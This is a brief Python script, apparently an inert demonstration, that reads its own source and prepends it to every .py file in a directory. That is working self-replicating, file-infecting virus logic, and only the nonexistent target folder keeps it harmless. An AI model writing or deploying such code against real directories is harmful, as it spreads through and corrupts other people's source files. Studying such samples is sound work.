import glob
import os

with open(__file__) as own:
    TEXT = own.read()

for path in glob.glob(os.path.join("inert-sample-that-is-not-there", "*.py")):
    with open(path, "r") as handle:
        theirs = handle.read()
    with open(path, "w") as handle:
        handle.write(TEXT + "\n" + theirs)
